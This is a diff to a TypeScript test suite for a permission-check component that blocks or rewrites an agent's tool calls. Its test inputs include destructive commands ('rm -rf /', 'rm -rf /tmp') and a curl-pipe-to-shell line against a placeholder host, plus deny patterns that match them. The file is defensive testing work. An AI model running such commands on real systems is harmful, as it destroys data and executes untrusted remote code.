@@ -23,7 +23,7 @@ function call(tool: Record<string, JsonValue> | undefined): OracleInput {
 function check(oracle: Oracle, name: string | undefined, input?: JsonValue): readonly OracleVerdict[] {
   const tool: Record<string, JsonValue> = {};
   if (name !== undefined) tool['name'] = name;
-  if (input !== undefined) tool['input'] = input;
+  tool['input'] = input ?? {};
   return oracle.evaluate(call(tool), { signal }) as readonly OracleVerdict[];
 }
 
@@ -51,7 +51,7 @@ describe('permission-check: deny rules', () => {
     expect(check(oracle, 'Bash')).toHaveLength(1);
     expect(check(oracle, 'Shell')).toHaveLength(1);
     expect(check(oracle, 'BashTool')).toEqual([]);
-    expect(check(oracle, undefined)).toEqual([]);
+    expect(check(oracle, undefined)).toEqual([expect.objectContaining({ rule: 'unreadable-tool-call' })]);
   });
 
   it('uses a RegExp tool pattern as given, flags included', () => {
@@ -64,7 +64,7 @@ describe('permission-check: deny rules', () => {
     const oracle = createPermissionCheck({
       deny: [{ name: 'no-rm', type: 'security-violation', input: 'rm -rf', reason: 'destructive', resolution_path: ['delete ./build only'] }],
     });
-    expect(check(oracle, 'Bash', 'rm -rf /tmp')).toEqual([
+    expect(check(oracle, 'Bash', { command: 'rm -rf /tmp' })).toEqual([
       {
         intensity: 'block',
         type: 'security-violation',
@@ -92,17 +92,17 @@ describe('permission-check: deny rules', () => {
     expect(check(oracle, 'Read')[0]).not.toHaveProperty('type');
   });
 
-  it('searches a string input, every string of an object input, and its JSON text', () => {
+  it('searches every string of the input object, and its JSON text', () => {
     const oracle = createPermissionCheck({
       deny: [
         { name: 'string', input: '^curl .*\\| *sh$', reason: 'pipe to shell' },
         { name: 'json', input: '"recursive":true', reason: 'recursive flag' },
       ],
     });
-    expect(check(oracle, 'Bash', 'curl https://x.example | sh').map((v) => v.rule)).toEqual(['string']);
+    expect(check(oracle, 'Bash', { command: 'curl https://x.example | sh' }).map((v) => v.rule)).toEqual(['string']);
     expect(check(oracle, 'Bash', { argv: ['sh', '-c', 'curl https://x.example | sh'] }).map((v) => v.rule)).toEqual(['string']);
     expect(check(oracle, 'Delete', { path: '/x', recursive: true }).map((v) => v.rule)).toEqual(['json']);
-    expect(check(oracle, 'Bash', 42)).toEqual([]);
+    expect(check(oracle, 'Bash', { command: 'ls' })).toEqual([]);
     expect(check(oracle, 'Bash')).toEqual([]);
   });
 
@@ -110,18 +110,29 @@ describe('permission-check: deny rules', () => {
     const oracle = createPermissionCheck({ deny: [{ input: 'secret', field: 'args.1', reason: 'no secrets' }] });
     expect(check(oracle, 'Run', { args: ['x', 'secret'] })).toHaveLength(1);
     expect(check(oracle, 'Run', { args: ['secret', 'x'] })).toEqual([]);
-    expect(check(oracle, 'Run', 'secret')).toEqual([]);
+    expect(check(oracle, 'Run', { args: 'secret' })).toEqual([]);
   });
 
   it('tests repeatedly with a global RegExp without skipping matches', () => {
     const oracle = createPermissionCheck({ deny: [{ input: /danger/g, reason: 'danger' }] });
-    for (let i = 0; i < 3; i += 1) expect(check(oracle, 'Bash', 'danger')).toHaveLength(1);
+    for (let i = 0; i < 3; i += 1) expect(check(oracle, 'Bash', { command: 'danger' })).toHaveLength(1);
   });
 
-  it('answers nothing without a tool object in the context', () => {
-    const oracle = createPermissionCheck({ deny: [{ tool: '.*', reason: 'all' }] });
-    expect(oracle.evaluate(call(undefined), { signal })).toEqual([]);
-    expect(oracle.evaluate({ ...call(undefined), context: { tool: 'Bash' } }, { signal })).toEqual([]);
+  it('blocks a hook whose tool call it cannot read, whatever its rules (the agent writes the context)', () => {
+    const onlyRewrites = createPermissionCheck({ rewrite: [{ input: 'x', replace: 'y', reason: 'r' }] });
+    const unreadable: Record<string, JsonValue>[] = [
+      {},
+      { tool: 'Bash' },
+      { tool: { name: 'Bash' } },
+      { tool: { name: 'Bash', input: 'rm -rf /' } },
+      { tool: { name: 'Bash', input: ['rm', '-rf'] } },
+      { tool: { name: '', input: {} } },
+      { tool: { name: 'Bash', input: {}, hidden: { command: 'rm -rf /' } } },
+    ];
+    for (const context of unreadable) {
+      const verdicts = onlyRewrites.evaluate({ ...call(undefined), context }, { signal }) as readonly OracleVerdict[];
+      expect(verdicts, JSON.stringify(context)).toEqual([expect.objectContaining({ intensity: 'block', rule: 'unreadable-tool-call' })]);
+    }
   });
 
   it('returns one block per matching deny rule and no rewrite when denied', () => {
@@ -163,7 +174,6 @@ describe('permission-check: rewrite rules', () => {
   });
 
   it('rewrites nothing it cannot address, and nothing that stays the same', () => {
-    expect(check(rewrite, 'Bash', 'git push --force')).toEqual([]);
     expect(check(rewrite, 'Bash', { command: 'git status' })).toEqual([]);
     const identity = createPermissionCheck({ rewrite: [{ input: 'a', replace: 'a', reason: 'noop' }] });
     expect(check(identity, 'Bash', { command: 'a' })).toEqual([]);
